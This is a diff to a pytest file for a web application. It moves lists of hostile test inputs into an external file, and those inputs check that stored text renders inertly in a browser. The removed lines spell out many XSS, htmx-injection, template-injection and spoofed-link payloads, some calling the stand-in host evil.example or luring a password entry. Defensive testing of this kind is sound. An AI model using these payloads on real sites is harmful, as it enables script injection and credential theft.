@@ -1,6 +1,7 @@
 """What people might write to do harm, stored and shown in a real browser: it is text, and nothing else happens."""
 
 from datetime import timedelta
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -11,97 +12,13 @@ from verbs import number_of
 
 from webapp.db.connections import Connection
 
-MARKUP = [
-    "<script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</p></article></main><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=//evil.example/x.png>",
-    '"><img src=x onerror=alert(1)>',
-    "'><svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><use href='//evil.example/x.svg#x'/></svg>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<iframe src='//evil.example'></iframe>",
-    "<object data='//evil.example/x'></object><embed src='//evil.example/y'>",
-    "<base href='//evil.example/'>",
-    "<link rel=stylesheet href='//evil.example/x.css'>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
-    "<form action='//evil.example'><input name=password autofocus></form>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<body onload=alert(1)>",
-    "<a href='javascript:alert(1)'>click</a>",
-    "<dialog open>hello</dialog>",
-    "<template shadowrootmode=open><script>alert(1)</script></template>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\u003cscript\u003ealert(1)\u003c/script\u003e",
-    "＜script＞alert(1)＜/script＞",
-    "{{7*7}}{% raw %}{{config}}{% endraw %}",
-    "{{''.__class__.__mro__}}",
-    "${alert(1)}#{alert(1)}<%= 7*7 %>",
-    "%s %(uuid)s %% {0} \\' ' \" -- ; DROP TABLE users",
-    "]]>--></style></script>",
-]
-HTMX = [
-    "<div hx-get='/api/home' hx-trigger='load'></div>",
-    "<div data-hx-get='/api/home' data-hx-trigger='load'></div>",
-    "<div hx-post='/sign-out' hx-trigger='load'></div>",
-    "<div hx-get='//evil.example' hx-trigger='load'></div>",
-    "<div hx-get='//evil.example' hx-trigger='revealed'></div>",
-    "<div hx-get='//evil.example' hx-trigger='every 1s'></div>",
-    "<div hx-on:load='alert(1)'></div>",
-    "<div hx-on::load='alert(1)'></div>",
-    "<div hx-on:htmx:after:process='alert(1)'></div>",
-    "<img src=x hx-on:error='alert(1)'>",
-    "<hx-partial hx-target='#main' hx-swap='innerHTML'>gone</hx-partial>",
-    "<hx-partial hx-target='body' hx-swap='delete'></hx-partial>",
-    "<div id='feed' hx-swap-oob='true'>gone</div>",
-    "<div id='announcer' hx-swap-oob='innerHTML'>gone</div>",
-    "<div hx-sse:connect='/stream'></div>",
-    "<div hx-ws:connect='ws://evil.example'></div>",
-    "<div hx-vals='js:{x:alert(1)}' hx-get='/' hx-trigger='load'></div>",
-    "<div hx-headers='js:{x:alert(1)}' hx-get='/' hx-trigger='load'></div>",
-    "<div hx-get='/' hx-trigger='load[alert(1)]'></div>",
-    "<a href='/' hx-boost='true' hx-confirm='js:alert(1)'>x</a>",
-    "<meta name='htmx-config' content='{\"mode\":\"cors\"}'>",
-    "<template hx-partial></template><hx-anything></hx-anything>",
-    "hx-get=/api/home hx-trigger=load",
-    "' hx-get='/api/home' hx-trigger='load' x='",
-    '" hx-get="/api/home" hx-trigger="load" x="',
-]
-LINKS = [
-    "javascript:alert(1)",
-    "java\tscript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1) file:///etc/passwd",
-    'http://example.org/"onmouseover=alert(1)//',
-    "http://example.org/'onmouseover='alert(1)",
-    "https://example.org/<img src=x onerror=alert(1)>",
-    "https://user:pass@evil.example/@alice",
-    "https://evil.example\\@example.org/",
-    "https://example.org/\u202egnp.exe",
-    "http://[::1]:80/ http://127.0.0.1/sign-out http://0x7f.1/",
-    "https://xn--pple-43d.com https://аpple.com",
-    '@alice@evil.example @alice/../../sign-out @alice"onclick=alert(1)',
-    "https://example.org/?q=%3Cscript%3Ealert(1)%3C/script%3E",
-    "https://example.org/" + "a" * 230,
-]
-NAMES = [
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "' autofocus onfocus='alert(1)",
-    "<b hx-get=/api/home hx-trigger=load>",
-    "{{7*7}}",
-]
+TEXTS: dict[str, list[str]] = {}
+for line in Path(__file__).with_name("hostile_texts.txt").read_text().splitlines()[1:]:
+    if line.startswith("## "):
+        TEXTS[line[3:]] = kind = []
+    else:
+        kind.append(line.encode().decode("unicode_escape"))
+MARKUP, HTMX, LINKS, NAMES = (TEXTS[kind] for kind in ("markup", "htmx", "links", "names"))
 _SHAPE = (
     """(root) => [...root.querySelectorAll("*")].map((e) => e.tagName.toLowerCase()).filter((name) => name !== "a")"""
 )
